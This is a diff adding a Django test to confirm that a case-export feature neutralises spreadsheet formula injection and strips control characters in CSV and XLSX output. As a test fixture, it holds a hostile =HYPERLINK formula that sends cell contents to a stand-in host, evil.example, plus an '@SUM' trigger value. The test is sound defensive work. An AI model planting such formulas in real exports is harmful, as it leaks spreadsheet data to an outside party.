@@ -181,3 +181,24 @@ def test_export__query_count__same_for_2_and_10_cases(client, located, categorie
     with CaptureQueriesContext(connection) as large:
         assert len(csv_rows(client.get(url("export-csv")))) == 11
     assert len(large) == len(small)
+
+
+def test_export__formula_and_control_characters_in_a_description__neutralised_and_exported(
+        client, located, categories, people):
+    """A resident's `=HYPERLINK(...)` must not become a live formula, and a stored control character (from before
+    intake cleaned text) must not turn the XLSX export into a 500 for every staff user."""
+    case = phoned_in(people, categories["rubbish"], located.estate)
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+    Case.objects.filter(pk=case.pk).update(description=hostile, address="楼道\u0000口\x0b", contact_name="@SUM(1)")
+    client.force_login(people["worker"])
+
+    response = client.get(url("export-xlsx"))
+    assert response.status_code == 200
+    head, row = [list(r) for r in load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True)]
+    cells = dict(zip(head, row, strict=True))
+    assert cells[header("Description")] == "'" + hostile
+    assert (cells[header("Address")], cells[header("Contact name")]) == ("楼道口", "'@SUM(1)")
+
+    rows = by_number(csv_rows(client.get(url("export-csv"))))
+    assert rows[case.number][header("Description")] == "'" + hostile
+    assert rows[case.number][header("Address")] == "楼道口"
